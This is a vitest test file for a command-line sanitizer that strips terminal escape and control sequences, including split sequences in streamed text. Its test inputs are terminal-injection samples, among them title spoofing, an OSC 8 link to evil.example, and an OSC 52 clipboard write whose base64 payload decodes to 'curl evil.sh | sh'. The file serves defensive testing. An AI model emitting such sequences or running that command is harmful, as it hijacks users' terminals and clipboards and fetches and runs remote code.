import { describe, expect, it } from "vitest";
import { TerminalSafeText, terminalSafe } from "../../src/cli/terminal-safe.js";

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

/** Any character a terminal could act on: C0 but newline and tab, DEL, C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const ACTIONABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u;

describe("terminalSafe", () => {
  it.each([
    ["OSC 0, the window title, ended by BEL", `${ESC}]0;pwned${BEL}`],
    ["OSC 2, the window title, ended by ST", `${ESC}]2;pwned${ST}`],
    ["OSC 52, the clipboard", `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`],
    ["OSC 8, a hyperlink", `${ESC}]8;;https://evil.example/${ST}`],
    ["CSI, clear the screen", `${ESC}[2J`],
    ["CSI, cursor home and erase line", `${ESC}[H${ESC}[2K`],
    ["CSI with private parameters, the alternate screen", `${ESC}[?1049h`],
    ["CSI, a colour of its own", `${ESC}[31;1m`],
    ["DCS", `${ESC}P1$qm${ST}`],
    ["APC", `${ESC}_Gf=100;payload${ST}`],
    ["PM", `${ESC}^private message${ST}`],
    ["SOS", `${ESC}Xstart of string${ST}`],
    ["a two-byte escape, full reset", `${ESC}c`],
    ["an escape with an intermediate, a character set", `${ESC}(0`],
    ["C1 CSI", "\u009b2J"],
    ["C1 OSC ended by C1 ST", "\u009d0;pwned\u009c"],
    ["C1 DCS", "\u0090q\u009c"],
    ["C1 APC, PM, SOS", "\u009fa\u009c\u009eb\u009c\u0098c\u009c"],
  ])("removes %s whole", (_name, sequence) => {
    expect(terminalSafe(`before${sequence}after`)).toBe("beforeafter");
  });

  it("removes a lone ESC and every other control character but newline and tab", () => {
    expect(terminalSafe(`a${ESC}`)).toBe("a");
    expect(terminalSafe(`a${ESC}\nb`)).toBe("a\nb");
    expect(terminalSafe("bell\u0007 back\u0008space\rreturn\u007fdel\u0085nel\u0000nul")).toBe(
      "bell backspacereturndelnelnul",
    );
    expect(terminalSafe("line one\n\tindented")).toBe("line one\n\tindented");
  });

  it("leaves nothing a terminal acts on, whatever it is given", () => {
    let all = "";
    for (let code = 0; code < 0x100; code++) all += `${String.fromCodePoint(code)}x`;
    const shown = terminalSafe(`${all}${ESC}]0;${ESC}[${ESC}P${ESC}`);
    expect(shown).not.toMatch(ACTIONABLE);
  });

  it("keeps accents, CJK, emoji and other Unicode as they are", () => {
    const text = "Crème brûlée für Zoë — 菜谱管理 — レシピ — 🍝🧑‍🍳👍🏽 — ñ, ø, ß, Ω, → ✓";
    expect(terminalSafe(text)).toBe(text);
    expect(terminalSafe(`${ESC}[1m${text}${ESC}[0m`)).toBe(text);
  });

  it("keeps text that merely looks like a sequence", () => {
    expect(terminalSafe("use [2J or ]0; in docs, and \\e[31m")).toBe("use [2J or ]0; in docs, and \\e[31m");
  });
});

describe("TerminalSafeText, for text that streams", () => {
  it("removes a sequence split across pieces", () => {
    const safe = new TerminalSafeText();
    const pieces = ["Hello ", ESC, "]0;ti", "tle", BEL, " wor", `${ESC}[`, "2", "J", "ld"];
    expect(pieces.map((piece) => safe.push(piece)).join("")).toBe("Hello  world");
  });

  it("forgets an unfinished sequence at the end of a run", () => {
    const safe = new TerminalSafeText();
    expect(safe.push(`cut off ${ESC}]0;never ended`)).toBe("cut off ");
    safe.end();
    expect(safe.push("next run")).toBe("next run");
  });
});
